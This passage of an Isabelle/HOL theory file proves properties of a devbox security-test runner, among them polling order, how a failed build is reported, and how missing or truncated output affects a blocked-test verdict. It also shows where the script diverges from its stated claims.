  "shutdown_calls (snd (run_test c did t k r)) = 0
   \<and> \<not> reached_running (snd (run_test c did t k r))
   \<and> probes_after_running (Some did) (snd (run_test c did t k r))
   \<and> seen_after (Some did) (snd (run_test c did t k r)) = Some did"
  by (auto simp: run_test_def Let_def split: outcome.splits)

lemma run_category_trace:
  "shutdown_calls (snd (run_category c did ts k r)) = 0
   \<and> \<not> reached_running (snd (run_category c did ts k r))
   \<and> probes_after_running (Some did) (snd (run_category c did ts k r))
   \<and> seen_after (Some did) (snd (run_category c did ts k r)) = Some did"
proof (induction ts arbitrary: k r)
  case Nil
  show ?case by simp
next
  case (Cons t ts)
  obtain x ev where a: "run_test c did t k r = (x, ev)" by (cases "run_test c did t k r")
  from run_test_trace[where c=c and did=did and t=t and k=k and r=r] a have b:
    "shutdown_calls ev = 0" "\<not> reached_running ev"
    "probes_after_running (Some did) ev" "seen_after (Some did) ev = Some did"
    by simp_all
  show ?case
  proof (cases x)
    case (Inl e)
    with a b show ?thesis by simp
  next
    case (Inr r1)
    obtain y ev' where c: "run_category c did ts (Suc k) r1 = (y, ev')"
      by (cases "run_category c did ts (Suc k) r1")
    from Cons.IH[of "Suc k" r1] c have
      "shutdown_calls ev' = 0" "\<not> reached_running ev'"
      "probes_after_running (Some did) ev'" "seen_after (Some did) ev' = Some did"
      by simp_all
    with a b c Inr show ?thesis
      by (simp add: probes_after_running_append seen_after_append)
  qed
qed

lemma run_and_cleanup_trace:
  "snd (run_and_cleanup c did catalog)
     = snd (run_tests c did catalog 0 results0) @ [Shutdown did]"
  by (simp add: run_and_cleanup_def split: prod.splits)


lemma run_and_cleanup_after_running:
  "probes_after_running (Some did) (snd (run_and_cleanup c did catalog))
   \<and> \<not> reached_running (snd (run_and_cleanup c did catalog))"
  using run_category_trace[where c=c and did=did and ts="all_tests catalog" and k=0 and r=results0]
  by (simp add: run_and_cleanup_trace run_tests_flat probes_after_running_append)





text \<open>
  C9. In every run, complete or still polling, every \<^verbatim>\<open>execute_sync\<close> goes to a devbox
  whose latest answer from \<^verbatim>\<open>devboxes.retrieve\<close> was \<^verbatim>\<open>"running"\<close>: no command is sent
  before that answer, nor after any other status has been observed.
\<close>

theorem probes_only_after_running:
  "probes_after_running None (snd (main_with fuel c catalog))"
proof (cases "blueprints_create c")
  case (Raises e)
  then show ?thesis by (simp add: main_with_def)
next
  case (Returns bid)
  obtain x ev1 where a: "await_blueprint fuel c bid 0 = (x, ev1)"
    by (cases "await_blueprint fuel c bid 0")
  from await_blueprint_trace[where fuel=fuel and c=c and bid=bid and k=0 and s=None] a have a':
    "probes_after_running None ev1" "seen_after None ev1 = None" by simp_all
  show ?thesis
  proof (cases x)
    case (Done u)
    show ?thesis
    proof (cases "devboxes_create c")
      case (Raises e)
      with Returns a a' Done show ?thesis
        by (simp add: main_with_def probes_after_running_append)
    next
      case did: (Returns did)
      obtain y ev2 where b: "await_devbox fuel c did 0 = (y, ev2)"
        by (cases "await_devbox fuel c did 0")
      from await_devbox_trace[where fuel=fuel and c=c and did=did and k=0 and s=None] b have b':
        "probes_after_running None ev2" "y = Done () \<longrightarrow> seen_after None ev2 = Some did"
        by simp_all
      obtain z ev3 where d: "run_and_cleanup c did catalog = (z, ev3)"
        by (cases "run_and_cleanup c did catalog")
      from run_and_cleanup_after_running[where c=c and did=did and catalog=catalog] d
      have d': "probes_after_running (Some did) ev3" by simp
      from Returns a a' Done did b b' d d' show ?thesis
        by (cases y)
           (simp_all add: main_with_def probes_after_running_append seen_after_append)
    qed
  next
    case (Raised e)
    with Returns a a' show ?thesis by (simp add: main_with_def)
  next
    case Polling
    with Returns a a' show ?thesis by (simp add: main_with_def)
  qed
qed

theorem probes_only_after_running_witness:
  "probes_after_running None (snd (main_with 5 demo_client small_catalog))
   \<and> issued_commands (snd (main_with 5 demo_client small_catalog))
       = [''sudo id'', ''ls'', ''docker ps'']
   \<and> \<not> probes_after_running None
         [DevboxesRetrieve ''dbx-1'' (Returns ''provisioning''), ExecuteSync ''dbx-1'' ''ls'']"
proof -
  have "issued_commands (snd (main_with 5 demo_client small_catalog))
          = [''sudo id'', ''ls'', ''docker ps'']"
    by code_simp
  with probes_only_after_running[where fuel=5 and c=demo_client and catalog=small_catalog] show ?thesis
    by simp
qed

section \<open>Teardown and the outcome of the run\<close>





section \<open>A failed build\<close>

lemma await_blueprint_build_failed:
  assumes "blueprints_retrieve c (k + n) = Returns ''build_failed''"
    and "\<forall>j<n. \<exists>s. blueprints_retrieve c (k + j) = Returns s
                     \<and> s \<noteq> ''build_complete'' \<and> s \<noteq> ''build_failed''"
    and "n < fuel"
    and "\<forall>e. blueprints_logs c = Raises e \<longrightarrow> is_Exception e"
  shows "fst (await_blueprint fuel c bid k) = Raised (Exception ''Blueprint build failed'')
         \<and> BlueprintsLogs bid \<in> set (snd (await_blueprint fuel c bid k))"
  using assms
proof (induction n arbitrary: k fuel)
  case 0
  then obtain f where f: "fuel = Suc f" by (cases fuel) auto
  from 0 show ?case
    by (cases "blueprints_logs c") (auto simp: f)
next
  case (Suc n)
  then obtain f where f: "fuel = Suc f" by (cases fuel) auto
  from Suc.prems(2) obtain s where
    s: "blueprints_retrieve c k = Returns s" "s \<noteq> ''build_complete''" "s \<noteq> ''build_failed''"
    by force
  have a: "blueprints_retrieve c (Suc k + n) = Returns ''build_failed''"
    using Suc.prems(1) by simp
  have b: "\<forall>j<n. \<exists>s. blueprints_retrieve c (Suc k + j) = Returns s
                     \<and> s \<noteq> ''build_complete'' \<and> s \<noteq> ''build_failed''"
  proof (intro allI impI)
    fix j assume "j < n"
    then have "Suc j < Suc n" by simp
    with Suc.prems(2) have "\<exists>s. blueprints_retrieve c (k + Suc j) = Returns s
                     \<and> s \<noteq> ''build_complete'' \<and> s \<noteq> ''build_failed''" by blast
    then show "\<exists>s. blueprints_retrieve c (Suc k + j) = Returns s
                     \<and> s \<noteq> ''build_complete'' \<and> s \<noteq> ''build_failed''" by simp
  qed
  have c: "n < f" using Suc.prems(3) f by simp
  from Suc.IH[OF a b c Suc.prems(4)] s show ?case
    by (auto simp: f split: prod.splits)
qed

text \<open>
  C8, as the script has it. When the poll that first gives a terminal status gives
  \<^verbatim>\<open>"build_failed"\<close>, the logs are asked for, and whether that call returns logs or raises
  an \<^verbatim>\<open>Exception\<close>, what leaves the loop and \<^verbatim>\<open>main\<close> is \<^verbatim>\<open>Exception("Blueprint build failed")\<close>:
  a fixed text, the same for every handle and every log.
\<close>

theorem build_failure_not_masked:
  "blueprints_retrieve c n = Returns ''build_failed''
   \<and> (\<forall>j<n. \<exists>s. blueprints_retrieve c j = Returns s
                  \<and> s \<noteq> ''build_complete'' \<and> s \<noteq> ''build_failed'')
   \<and> n < fuel
   \<and> (\<forall>e. blueprints_logs c = Raises e \<longrightarrow> is_Exception e)
   \<longrightarrow>
     fst (await_blueprint fuel c bid 0) = Raised (Exception ''Blueprint build failed'')
     \<and> BlueprintsLogs bid \<in> set (snd (await_blueprint fuel c bid 0))
     \<and> (blueprints_create c = Returns bid \<longrightarrow>
          fst (main_with fuel c catalog) = Raised (Exception ''Blueprint build failed''))"
proof (intro impI)
  assume h: "blueprints_retrieve c n = Returns ''build_failed''
   \<and> (\<forall>j<n. \<exists>s. blueprints_retrieve c j = Returns s
                  \<and> s \<noteq> ''build_complete'' \<and> s \<noteq> ''build_failed'')
   \<and> n < fuel
   \<and> (\<forall>e. blueprints_logs c = Raises e \<longrightarrow> is_Exception e)"
  then have a: "fst (await_blueprint fuel c bid 0) = Raised (Exception ''Blueprint build failed'')
         \<and> BlueprintsLogs bid \<in> set (snd (await_blueprint fuel c bid 0))"
    using await_blueprint_build_failed[where c=c and k=0 and n=n and fuel=fuel and bid=bid]
    by simp
  moreover have "fst (main_with fuel c catalog) = Raised (Exception ''Blueprint build failed'')"
    if "blueprints_create c = Returns bid"
    using that a by (cases "await_blueprint fuel c bid 0") (simp add: main_with_def)
  ultimately show "fst (await_blueprint fuel c bid 0) = Raised (Exception ''Blueprint build failed'')
     \<and> BlueprintsLogs bid \<in> set (snd (await_blueprint fuel c bid 0))
     \<and> (blueprints_create c = Returns bid \<longrightarrow>
          fst (main_with fuel c catalog) = Raised (Exception ''Blueprint build failed''))"
    by blast
qed

lemma failing_build_hypotheses:
  "blueprints_retrieve
     (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                  blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>) 1
     = Returns ''build_failed''
   \<and> (\<forall>j<1. \<exists>s. blueprints_retrieve
                    (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                                 blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>) j
                    = Returns s
                  \<and> s \<noteq> ''build_complete'' \<and> s \<noteq> ''build_failed'')
   \<and> (1::nat) < 5
   \<and> (\<forall>e. blueprints_logs
              (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                           blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>)
            = Raises e \<longrightarrow> is_Exception e)"
  by (auto simp: failing_blueprint_status_def)

theorem build_failure_not_masked_witness:
  "blueprints_logs
     (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                  blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>)
     = Raises (Exception ''logs unavailable'')
   \<and> fst (main_with 5
            (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                         blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>)
            SECURITY_TESTS)
       = Raised (Exception ''Blueprint build failed'')
   \<and> snd (await_blueprint 5
            (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                         blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>)
            ''bp-1'' 0)
       = [BlueprintsRetrieve ''bp-1'' (Returns ''building''), Sleep 5,
          BlueprintsRetrieve ''bp-1'' (Returns ''build_failed''), BlueprintsLogs ''bp-1'']"
proof -
  have b: "blueprints_create
             (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                          blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>)
           = Returns ''bp-1''"
    by (simp add: demo_client_def)
  have t: "snd (await_blueprint 5
            (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                         blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>)
            ''bp-1'' 0)
       = [BlueprintsRetrieve ''bp-1'' (Returns ''building''), Sleep 5,
          BlueprintsRetrieve ''bp-1'' (Returns ''build_failed''), BlueprintsLogs ''bp-1'']"
    by code_simp
  from build_failure_not_masked
         [where c="demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                               blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>"
            and n=1 and fuel=5 and bid="''bp-1''" and catalog=SECURITY_TESTS]
       failing_build_hypotheses b
  have "fst (main_with 5
            (demo_client\<lparr>blueprints_retrieve := failing_blueprint_status,
                         blueprints_logs := Raises (Exception ''logs unavailable'')\<rparr>)
            SECURITY_TESTS)
       = Raised (Exception ''Blueprint build failed'')"
    by blast
  with t show ?thesis by simp
qed

text \<open>
  C8, as the claim has it, fails where it says that the error carries the handle and
  the logs: two builds with different handles and different logs end \<^verbatim>\<open>main\<close> with the
  very same exception.
\<close>

theorem build_failure_carries_nothing:
  "fst (main 5 (demo_client\<lparr>blueprints_create := Returns ''bp-1'',
                            blueprints_retrieve := failing_blueprint_status,
                            blueprints_logs := Returns ''step 3: disk full''\<rparr>))
     = Raised (Exception ''Blueprint build failed'')
   \<and> fst (main 5 (demo_client\<lparr>blueprints_create := Returns ''bp-2'',
                              blueprints_retrieve := failing_blueprint_status,
                              blueprints_logs := Returns ''step 7: no network''\<rparr>))
     = Raised (Exception ''Blueprint build failed'')"
  by code_simp

section \<open>Missing output streams\<close>

lemma output_of_stdout_None:
  "output_of (result\<lparr>stdout := None\<rparr>) = output_of (result\<lparr>stdout := Some []\<rparr>)"
  by (simp add: output_of_def combined_output_def or_empty_def)

lemma output_of_stderr_None:
  "output_of (result\<lparr>stderr := None\<rparr>) = output_of (result\<lparr>stderr := Some []\<rparr>)"
  by (simp add: output_of_def combined_output_def or_empty_def)

text \<open>
  C10. A result whose stdout or stderr is \<^verbatim>\<open>None\<close> is classified as the same result
  with the empty string in its place; with both missing the output is empty and the
  exit status alone decides; and in the loop such a result gets the verdict \<^verbatim>\<open>PASS\<close> or
  \<^verbatim>\<open>FAIL\<close> and is counted as one, not as an error.
\<close>

theorem missing_stream_is_empty_string:
  "classify x (result\<lparr>stdout := None\<rparr>) = classify x (result\<lparr>stdout := Some []\<rparr>)
   \<and> classify x (result\<lparr>stderr := None\<rparr>) = classify x (result\<lparr>stderr := Some []\<rparr>)
   \<and> classify x \<lparr>exit_status = n, stdout = None, stderr = None\<rparr>
       = (if x = ''blocked'' then n \<noteq> 0 else if x = ''success'' then n = 0 else True)
   \<and> (devboxes_execute_sync c k (command t) = Returns (result\<lparr>stdout := None, stderr := None\<rparr>)
        \<longrightarrow> run_test c did t k r
             = (Inr (count_verdict (classify (expect t) (result\<lparr>stdout := Some [], stderr := Some []\<rparr>)) r),
                [ExecuteSync did (command t),
                 Verdict (status_label
                   (classify (expect t) (result\<lparr>stdout := Some [], stderr := Some []\<rparr>)))]))"
proof -
  have a: "classify x (result\<lparr>stdout := None\<rparr>) = classify x (result\<lparr>stdout := Some []\<rparr>)"
    by (simp add: classify_def output_of_stdout_None)
  have b: "classify x (result\<lparr>stderr := None\<rparr>) = classify x (result\<lparr>stderr := Some []\<rparr>)"
    by (simp add: classify_def output_of_stderr_None)
  have c: "classify x \<lparr>exit_status = n, stdout = None, stderr = None\<rparr>
       = (if x = ''blocked'' then n \<noteq> 0 else if x = ''success'' then n = 0 else True)"
    by (simp add: classify_def output_of_def combined_output_def or_empty_def strip_def
          truncate_output_def lower_def)
  have d: "classify y (result\<lparr>stdout := None, stderr := None\<rparr>)
             = classify y (result\<lparr>stdout := Some [], stderr := Some []\<rparr>)" for y
    by (simp add: classify_def output_of_def combined_output_def or_empty_def)
  show ?thesis
    by (simp add: a b c d run_test_def Let_def)
qed

theorem missing_stream_is_empty_string_witness:
  "classify ''blocked'' \<lparr>exit_status = 0, stdout = None, stderr = Some ''Access DENIED''\<rparr>
   \<and> \<not> classify ''blocked'' \<lparr>exit_status = 0, stdout = None, stderr = None\<rparr>
   \<and> classify ''blocked'' \<lparr>exit_status = 2, stdout = None, stderr = None\<rparr>"
proof -
  have "classify ''blocked'' \<lparr>exit_status = 0, stdout = Some [], stderr = Some ''Access DENIED''\<rparr>"
    by code_simp
  with missing_stream_is_empty_string
         [where x="''blocked''" and n=0
            and result="\<lparr>exit_status = 0, stdout = Some ''x'', stderr = Some ''Access DENIED''\<rparr>"]
       missing_stream_is_empty_string [where x="''blocked''" and n=2]
  show ?thesis by simp
qed

section \<open>The verdict of a test that expects a block\<close>

lemma output_of_long_stdout_then_stderr:
  "output_of \<lparr>exit_status = n, stdout = Some (replicate 200 (CHR ''x'')),
              stderr = Some ''Permission denied''\<rparr> = replicate 200 (CHR ''x'') @ ''...''"
proof -
  have "strip (replicate 200 (CHR ''x'') @ ''Permission denied'')
          = replicate 200 (CHR ''x'') @ ''Permission denied''"
    by (rule strip_id) (simp_all add: hd_append)
  then show ?thesis
    by (simp add: output_of_def combined_output_def or_empty_def truncate_output_def)
qed

text \<open>
  C1. The claim is that a test that expects \<^verbatim>\<open>"blocked"\<close> passes whenever one of the five
  substrings stands anywhere in stdout followed by stderr. With exit status 0, a stdout
  of 200 letters \<^verbatim>\<open>x\<close> and the stderr \<^verbatim>\<open>Permission denied\<close>, the combined text has
  \<^verbatim>\<open>permission\<close> and \<^verbatim>\<open>denied\<close> in it, and the script's verdict is \<^verbatim>\<open>FAIL\<close>: what it searches
  is the first 200 characters.
\<close>

theorem signal_in_stderr_after_long_stdout:
  "classify ''blocked''
     \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''x'')),
      stderr = Some ''Permission denied''\<rparr> = False
   \<and> status_label (classify ''blocked''
       \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''x'')),
        stderr = Some ''Permission denied''\<rparr>) = ''FAIL''
   \<and> str_in ''denied''
       (lower (replicate 200 (CHR ''x'') @ ''Permission denied'')) = True"
proof -
  have a: "str_in ''denied'' (lower (replicate 200 (CHR ''x'') @ ''Permission denied''))"
    by (simp add: lower_replicate) (rule str_in_append_right, code_simp)
  have b: "classify ''blocked''
     \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''x'')),
      stderr = Some ''Permission denied''\<rparr> = False"
    by (simp add: classify_def output_of_long_stdout_then_stderr lower_replicate
          filler_has_no_signal)
       (simp add: lower_def lower_char_def filler_has_no_signal)
  from a b show ?thesis by (simp add: status_label_def)
qed

theorem signal_in_stderr_after_long_stdout_witness:
  "\<not> classify ''blocked''
     \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''x'')),
      stderr = Some ''Permission denied''\<rparr>
   \<and> spec_classify ''blocked''
     \<lparr>exit_status = 0, stdout = Some (replicate 200 (CHR ''x'')),
      stderr = Some ''Permission denied''\<rparr>"
  using signal_in_stderr_after_long_stdout
  by (simp add: spec_classify_def spec_blocked_signal_def blocking_substrings_def or_empty_def)

section \<open>Where the script and the specification agree\<close>

lemma strip_decomposition:
  "\<exists>pre post. s = pre @ strip s @ post
      \<and> (\<forall>c\<in>set pre. is_space c) \<and> (\<forall>c\<in>set post. is_space c)"
proof -
  let ?t = "dropWhile is_space s"
  have "rev (dropWhile is_space (rev ?t)) @ rev (takeWhile is_space (rev ?t))
          = rev (takeWhile is_space (rev ?t) @ dropWhile is_space (rev ?t))"
    by (simp only: rev_append)
  also have "\<dots> = rev (rev ?t)" by (simp only: takeWhile_dropWhile_id)
  also have "\<dots> = ?t" by (simp only: rev_rev_ident)
  finally have "strip s @ rev (takeWhile is_space (rev ?t)) = ?t"
    by (simp only: strip_def)
  then have t: "?t = strip s @ rev (takeWhile is_space (rev ?t))" by (rule sym)
  have "s = takeWhile is_space s @ ?t" by simp
  with t have "s = takeWhile is_space s @ strip s @ rev (takeWhile is_space (rev ?t))"
    by simp
  moreover have "\<forall>c\<in>set (takeWhile is_space s). is_space c"
    by (auto dest: set_takeWhileD)
  moreover have "\<forall>c\<in>set (rev (takeWhile is_space (rev ?t))). is_space c"
    by (auto dest: set_takeWhileD)
  ultimately show ?thesis by blast
qed

lemma sublist_drop_left:
  assumes "p \<noteq> []" "\<not> Q (hd p)" "\<forall>c\<in>set pre. Q c"
  shows "sublist p (pre @ m) = sublist p m"
  using assms(3)
proof (induction pre)
  case Nil
  show ?case by simp
next
  case (Cons c pre)
  from assms(1,2) Cons.prems have "\<not> prefix p (c # pre @ m)"
    by (cases p) auto
  with Cons show ?case by (simp add: sublist_Cons_right)
qed

lemma sublist_drop_right:
  assumes "p \<noteq> []" "\<not> Q (last p)" "\<forall>c\<in>set post. Q c"
  shows "sublist p (m @ post) = sublist p m"
proof -
  have "sublist p (m @ post) = sublist (rev p) (rev post @ rev m)"
    using sublist_rev[of p "m @ post"] by simp
  also have "\<dots> = sublist (rev p) (rev m)"
    using assms by (intro sublist_drop_left[where Q=Q]) (simp_all add: hd_rev)
  also have "\<dots> = sublist p m" by simp
  finally show ?thesis .
qed

lemma lower_char_space: "is_space c \<Longrightarrow> lower_char c = c"
  by (auto simp: is_space_def lower_char_def Let_def)

lemma str_in_lower_strip:
  assumes "p \<noteq> []" "\<not> is_space (hd p)" "\<not> is_space (last p)"
  shows "str_in p (lower (strip s)) = str_in p (lower s)"
proof -
  from strip_decomposition[of s] obtain pre post where
    s: "s = pre @ strip s @ post" and
    pre: "\<forall>c\<in>set pre. is_space c" and post: "\<forall>c\<in>set post. is_space c"
    by blast
  have lp: "lower pre = pre" using pre by (simp add: lower_def lower_char_space map_idI)
  have lq: "lower post = post" using post by (simp add: lower_def lower_char_space map_idI)
  have "lower s = lower (pre @ strip s @ post)" using s by simp
  then have "lower s = pre @ lower (strip s) @ post"
    using lp lq by (simp add: lower_def)
  then have "sublist p (lower s) = sublist p (pre @ lower (strip s) @ post)" by simp
  also have "\<dots> = sublist p (lower (strip s) @ post)"
    using assms pre by (intro sublist_drop_left[where Q=is_space]) simp_all
  also have "\<dots> = sublist p (lower (strip s))"
    using assms post by (intro sublist_drop_right[where Q=is_space]) simp_all
  finally show ?thesis by (simp add: str_in_sublist)
qed

lemma map_fixed_needle:
  assumes "\<forall>c\<in>set p. \<forall>x. (f x = c) = (x = c)"
  shows "map f b = p \<longleftrightarrow> b = p"
  using assms
proof (induction b arbitrary: p)
  case Nil
  show ?case by auto
next
  case (Cons x b)
  show ?case
  proof (cases p)
    case Nil
    then show ?thesis by simp
  next
    case (Cons c p')
    with Cons.prems have "(f x = c) = (x = c)" and "\<forall>c\<in>set p'. \<forall>x. (f x = c) = (x = c)"
      by simp_all
    with Cons.IH[of p'] Cons show ?thesis by simp
  qed
qed

lemma sublist_map_fixed_needle:
  assumes "\<forall>c\<in>set p. \<forall>x. (f x = c) = (x = c)"
  shows "sublist p (map f s) = sublist p s"
proof
  assume "sublist p (map f s)"
  then obtain ps ss where "map f s = ps @ p @ ss" by (auto simp: sublist_def)
  then have "\<exists>us vs. s = us @ vs \<and> ps = map f us \<and> p @ ss = map f vs"
    by (simp only: map_eq_append_conv)
  then obtain a vs where a: "s = a @ vs" and vs: "p @ ss = map f vs" by blast
  from vs have "\<exists>us ws. vs = us @ ws \<and> p = map f us \<and> ss = map f ws"
    by (simp only: append_eq_map_conv)
  then obtain b c where v: "vs = b @ c" and "p = map f b" by blast
  then have b: "map f b = p" by simp
  from a v have s: "s = a @ b @ c" by simp
  from b assms have "b = p" by (simp add: map_fixed_needle)
  with s show "sublist p s" by (auto simp: sublist_def)
next
  assume "sublist p s"
  then obtain ps ss where "s = ps @ p @ ss" by (auto simp: sublist_def)
  moreover have "map f p = p" using assms by (simp add: map_fixed_needle)
  ultimately have "map f s = map f ps @ p @ map f ss" by simp
  then show "sublist p (map f s)" by (auto simp: sublist_def)
qed

lemma lower_char_digit:
  "(lower_char x = CHR ''4'') = (x = CHR ''4'')" "(lower_char x = CHR ''0'') = (x = CHR ''0'')"
  by (auto simp: lower_char_def Let_def char_of_eq_iff take_bit_eq_mod)

lemma str_in_400_lower: "str_in ''400'' (lower s) = str_in ''400'' s"
  unfolding str_in_sublist lower_def
  by (rule sublist_map_fixed_needle) (simp add: lower_char_digit)

lemma not_space_signal_ends:
  "\<not> is_space (CHR ''b'')" "\<not> is_space (CHR ''p'')" "\<not> is_space (CHR ''n'')"
  "\<not> is_space (CHR ''4'')" "\<not> is_space (CHR ''0'')"
  by (simp_all add: is_space_def)

text \<open>
  When the combined output, stripped, has at most 200 characters, line 319 leaves it
  whole, and the script's verdict is the one the specification describes, for every
  expectation and every exit status.
\<close>

lemma short_output_agrees_with_spec:
  assumes "length (combined_output result) \<le> 200"
  shows "classify x result = spec_classify x result"
proof -
  let ?s = "or_empty (stdout result) @ or_empty (stderr result)"
  have o: "output_of result = strip ?s"
    using assms by (simp add: output_of_def truncate_output_def combined_output_def)
  have 1: "str_in ''blocked'' (lower (strip ?s)) = str_in ''blocked'' (lower ?s)"
    by (rule str_in_lower_strip) (simp_all add: not_space_signal_ends)
  have 2: "str_in ''denied'' (lower (strip ?s)) = str_in ''denied'' (lower ?s)"
    by (rule str_in_lower_strip) (simp_all add: not_space_signal_ends)
  have 3: "str_in ''permission'' (lower (strip ?s)) = str_in ''permission'' (lower ?s)"
    by (rule str_in_lower_strip) (simp_all add: not_space_signal_ends)
  have 4: "str_in ''not found'' (lower (strip ?s)) = str_in ''not found'' (lower ?s)"
    by (rule str_in_lower_strip) (simp_all add: not_space_signal_ends)
  have "str_in ''400'' (strip ?s) = str_in ''400'' (lower (strip ?s))"
    by (simp add: str_in_400_lower)
  also have "\<dots> = str_in ''400'' (lower ?s)"
    by (rule str_in_lower_strip) (simp_all add: not_space_signal_ends)
  finally have 5: "str_in ''400'' (strip ?s) = str_in ''400'' (lower ?s)" .
  show ?thesis
    unfolding classify_def spec_classify_def spec_blocked_signal_def blocking_substrings_def
      Let_def o 1 2 3 4 5
    by auto
qed

end
